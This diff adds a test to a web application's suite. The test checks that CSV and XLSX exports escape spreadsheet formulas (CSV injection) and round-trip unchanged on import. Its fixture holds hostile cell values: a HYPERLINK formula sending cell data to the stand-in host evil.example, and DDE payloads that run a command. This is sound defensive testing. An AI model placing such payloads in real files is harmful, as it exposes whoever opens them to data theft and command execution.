@@ -138,3 +138,38 @@ def test_cli_import_dry_run_and_export(tmp_path):
     r = subprocess.run([str(exe), "checklist", "import", str(bad), "--data-dir", str(data_dir)],
                        capture_output=True, text=True, timeout=120)
     assert r.returncode == 1 and "missing columns" in r.stderr
+
+
+# Issue 25 S8: a cell that begins with =, +, -, @ is a formula to a spreadsheet program (OWASP CSV injection).
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "advice": "@SUM(1+1)*cmd|' /C calc'!A0",
+            "risk_rationale": "+1+cmd|' /C calc'!A0"}
+
+
+async def test_exports_never_hand_a_spreadsheet_a_formula(stack):
+    c = stack.client
+    admin = stack.auth("admin-1", "admin")
+    r = await c.get(f"{API}/exports/guidance-items", params={"format": "csv"}, headers=admin)
+    rows = _csv_rows(r.content)
+    hostile = dict(rows[0]) | {"code": "GI-IMP-XSS"} | FORMULAS
+    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=_csv([*rows, hostile]),
+                     headers=admin)
+    assert r.status_code == 200 and r.json()["created"] == ["GI-IMP-XSS"], r.text
+    item = (await c.get(f"{API}/guidance-items/GI-IMP-XSS", headers=admin)).json()
+    assert item["title"] == FORMULAS["title"]  # stored as the person typed it
+
+    r = await c.get(f"{API}/exports/guidance-items", params={"format": "csv"}, headers=admin)
+    exported = next(x for x in _csv_rows(r.content) if x["code"] == "GI-IMP-XSS")
+    for field, text in FORMULAS.items():  # the apostrophe makes the cell text in a spreadsheet program
+        assert exported[field] == "'" + text, (field, exported[field])
+    r = await c.post(f"{API}/imports/guidance-items", params={"format": "csv"}, content=r.content, headers=admin)
+    assert r.status_code == 200 and "GI-IMP-XSS" in r.json()["unchanged"], r.text  # and reads back unchanged
+
+    r = await c.get(f"{API}/exports/guidance-items", params={"format": "xlsx"}, headers=admin)
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = [cell.value for cell in ws[1]]
+    row = next(line for line in ws.iter_rows(min_row=2) if line[header.index("code")].value == "GI-IMP-XSS")
+    for field, text in FORMULAS.items():
+        cell = row[header.index(field)]
+        assert (cell.value, cell.data_type) == (text, "s"), (field, cell.value, cell.data_type)  # text, not a formula
+    r = await c.post(f"{API}/imports/guidance-items", params={"format": "xlsx"}, content=r.content, headers=admin)
+    assert r.status_code == 200 and "GI-IMP-XSS" in r.json()["unchanged"], r.text
